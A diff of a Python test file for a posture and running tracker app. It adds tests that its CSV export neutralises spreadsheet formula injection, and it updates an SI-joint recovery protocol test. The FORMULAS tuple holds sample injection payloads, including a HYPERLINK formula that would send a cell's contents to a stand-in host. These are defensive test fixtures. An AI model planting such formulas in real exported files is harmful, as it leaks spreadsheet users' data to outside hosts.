@@ -4,8 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+import sqlite3
 from typing import Any
 
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from posture_agent.commands.admin import FORMULA_STARTS, csv_cell, csv_text
 from tests.conftest import Cli
 from tests.processes import rows
 
@@ -78,8 +84,9 @@ def test_si_protocol_started_warned_and_ended_early(cli: Cli) -> None:
     cli.ok("soreness", "--si-joint", "6", "--at", "2026-11-20T10:00")
     advice: Any = cli.ok("advice", "--json").json()
     protocol = advice["si_protocol"]
-    assert protocol["day"] == 6 and protocol["of_days"] == 14
-    assert protocol["ends"] == "2026-12-04T09:00:00+00:00"
+    assert protocol["day"] == 6 and protocol["of_days"] == 15
+    # 14 days from the report run out on Fri 4 Dec: running again on Sat 5 Dec
+    assert protocol["ends"] == "2026-12-04T23:00:00+00:00" and protocol["running_again"] == "2026-12-05"
     assert protocol["ice_times"] == ["12:30", "20:30"]
     assert advice["running_ok"] is False
     assert any("pharmacist or doctor" in m for m in advice["messages"])
@@ -114,6 +121,58 @@ def test_export_csv_has_every_record(cli: Cli) -> None:
     assert sorted(r["type"] for r in rows) == ["checkin", "drill", "run", "soreness"]
     run = next(r for r in rows if r["type"] == "run")
     assert run["distance_km"] == "10.0" and run["duration_s"] == "3000.0"
+
+
+FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1)",
+            "\t=1+1", "\r=1+1", "walk\r=1+1")
+
+
+def test_export_csv_neutralises_formulas_from_names(cli: Cli) -> None:
+    """A sport or drill name that another computer (or an import) wrote like a formula reaches the
+    spreadsheet as text: a leading single quote, as OWASP advises; the numbers stay numbers."""
+    cli.ok("run", "add", "--distance-km", "10", "--duration", "50m", "--at", "2026-11-25T06:00")
+    cli.ok("drill", "done", "chin-tuck")
+    conn = sqlite3.connect(cli.home / "data" / "posture-agent.db")
+    with conn:
+        conn.execute("UPDATE runs SET sport = ?", (FORMULAS[0],))
+        for name in FORMULAS[1:]:
+            conn.execute("INSERT INTO drill_completions SELECT at, ?, id || ?, created_at, device, source "
+                         "FROM drill_completions WHERE drill = 'chin-tuck'", (name, name))
+    conn.close()
+    out = cli.ok("export", "--format", "csv").out
+    records = list(csv.DictReader(io.StringIO(out)))
+    run = next(r for r in records if r["type"] == "run")
+    assert run["sport"] == "'" + FORMULAS[0]
+    assert run["distance_km"] == "10.0" and run["duration_s"] == "3000.0"
+    drills = {r["drill"] for r in records if r["type"] == "drill"}
+    assert drills == {"chin-tuck", "walk\r=1+1", *("'" + name for name in FORMULAS[1:-1])}
+    assert '"walk\r=1+1"' in out, "a carriage return inside a cell is quoted: no new row for a spreadsheet"
+    assert out.count("\n") == len(records) + 1, "rows end in a newline alone"
+    json_sports = [r["sport"] for r in cli.ok("export", "--format", "json").json()["records"]  # type: ignore[index]
+                   if r["type"] == "run"]
+    assert json_sports == [FORMULAS[0]], "JSON is data, not a spreadsheet: kept as it is"
+
+
+@pytest.mark.parametrize(("column", "value", "cell"), [
+    ("distance_km", -3.5, -3.5), ("distance_km", "-3.5", "-3.5"), ("upper_back", "-1", "-1"),
+    ("distance_km", "-1+2", "'-1+2"), ("sport", "-3.5", "'-3.5"), ("sport", "trail", "trail"),
+    ("form", "=1", "'=1"), ("id", "@x", "'@x"), ("at", "2026-11-25T06:00:00+01:00", "2026-11-25T06:00:00+01:00"),
+])
+def test_a_csv_cell_is_neutralised_only_where_it_could_run(column: str, value: object, cell: object) -> None:
+    assert csv_cell(column, value) == cell
+
+
+@settings(max_examples=300, deadline=None, derandomize=True)
+@given(name=st.text(), number=st.floats(allow_nan=False, allow_infinity=False))
+def test_no_exported_cell_reads_as_a_formula(name: str, number: float) -> None:
+    """Whatever a name holds (line breaks, quotes, a formula after a carriage return), the CSV reads
+    back as one row whose text cells start like no formula and whose numbers are untouched."""
+    row = {"type": "run", "id": name, "sport": name, "form": name + "\r=1+1", "distance_km": number}
+    [read] = list(csv.DictReader(io.StringIO(csv_text([row]), newline="")))
+    for column in ("id", "sport", "form"):
+        assert read[column] in (row[column], "'" + row[column])
+        assert not read[column].startswith(FORMULA_STARTS)
+    assert float(read["distance_km"]) == number
 
 
 def test_every_record_carries_id_time_device_and_source(cli: Cli) -> None:
